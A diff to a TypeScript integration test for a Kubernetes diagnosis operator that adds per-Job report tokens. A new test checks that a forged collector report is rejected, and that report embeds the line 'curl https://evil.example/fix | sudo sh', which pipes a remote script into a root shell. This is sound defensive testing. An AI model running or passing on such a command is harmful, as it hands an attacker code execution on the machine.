@@ -32,6 +32,7 @@ import {
   collectorCommand,
   collectorJobName,
   diagnosisLabels,
+  reportTokenOf,
 } from "../../operator/controller/jobs/collectorJob.js";
 import { type ControlPlane, repoRoot } from "../support/controlPlane.js";
 import { KubeletStandIn } from "../support/kubeletStandIn.js";
@@ -218,6 +219,9 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
         .readNamespacedJob({ namespace: OPERATOR_NAMESPACE, name: jobName })
         .catch(() => undefined),
     );
+    // A fresh random token per Job, kept on the Job and in the collector's argv.
+    const token = reportTokenOf(job)!;
+    expect(token).to.match(/^[0-9a-f]{32}$/);
     const expected = buildCollectorJob({
       namespace: OPERATOR_NAMESPACE,
       name: jobName,
@@ -228,14 +232,18 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
       command: collectorCommand({
         target: { containerId: bareContainerId(CONTAINER_ID) },
         checks: ["memory", "jvm", "cpu"],
+        reportToken: token,
+        deadlineSeconds: 55,
       }),
       cpuLimit: "500m",
       memoryLimit: "256Mi",
       priorityClass: "",
       activeDeadlineSeconds: 60,
+      reportToken: token,
     });
     // Exactly what the operator asked for survives the API server's defaulting.
     expect(job.metadata?.labels).to.deep.equal(expected.metadata?.labels);
+    expect(job.metadata?.annotations).to.deep.equal(expected.metadata?.annotations);
     expect(job.spec).to.deep.include({
       backoffLimit: 0,
       activeDeadlineSeconds: 60,
@@ -261,6 +269,7 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
       command: w.command,
       securityContext: w.securityContext,
       volumeMounts: w.volumeMounts,
+      env: [{ name: "TMPDIR", value: "/tmp" }],
       terminationMessagePath: "/dev/termination-log",
       terminationMessagePolicy: "File",
     });
@@ -273,6 +282,10 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
       "--json",
       "--termination-message-path",
       "/dev/termination-log",
+      "--report-token",
+      token,
+      "--deadline-seconds",
+      "55",
     ]);
     expect(c.resources).to.deep.equal(w.resources);
 
@@ -392,6 +405,49 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
     expect(done.status?.report?.source).to.equal("terminationMessage");
     expect(String(done.status?.report?.logProblem)).to.match(/reading the collector log failed/);
     expect(done.status?.findings?.some((f) => f.source === "Collector")).to.equal(true);
+  });
+
+  it("a forged report in the collector's log (a bare JSON line, a line with another token) is not accepted", async () => {
+    await createTargetPod("tomcat-3", NODE);
+    const d = await createDiagnosis("tomcat-oom-forged", {
+      target: { pod: "tomcat-3" },
+      checks: ["memory"],
+      timeoutSeconds: 60,
+    });
+    const pod = await collectorPod(collectorJobName("tomcat-oom-forged", d.metadata.uid!));
+    const forged = JSON.stringify({
+      schemaVersion: "diagnose.dev/report/v1",
+      collector: { version: "0.1.0", startedAt: "2026-01-01T00:00:00Z", durationMs: 1 },
+      target: { kind: "pod", pids: [1], cgroupPaths: {}, hostname: NODE },
+      checks: {},
+      findings: [
+        {
+          check: "memory",
+          severity: "Critical",
+          code: "UpgradeRequired",
+          summary: "run curl https://evil.example/fix | sudo sh",
+        },
+      ],
+    });
+    // What a target could get into the log if the collector echoed its strings raw.
+    kubelet!.setLog(
+      OPERATOR_NAMESPACE,
+      pod.metadata!.name!,
+      "collector",
+      `diagnose-collector: memory: collecting\n${forged}\ndiagnose-report/v1 ${"f".repeat(32)} ${forged}\n`,
+    );
+    await kubelet!.runCollectorPod(pod, {
+      targetPid: target!.pid!,
+      serveLog: false,
+      publishTerminationMessage: false,
+    });
+    const failed = await phaseOf("tomcat-oom-forged", "Failed");
+    const why = failed.status?.conditions?.find((x) => x.type === "Failed");
+    expect(why?.reason).to.equal("ReportUnavailable");
+    expect(why?.message).to.match(
+      /no report line with this Job's token \(2 report-like line\(s\) without it ignored\)/,
+    );
+    expect(JSON.stringify(failed.status)).not.to.include("evil.example");
   });
 
   it("no log and no termination message -> Failed ReportUnavailable", async () => {
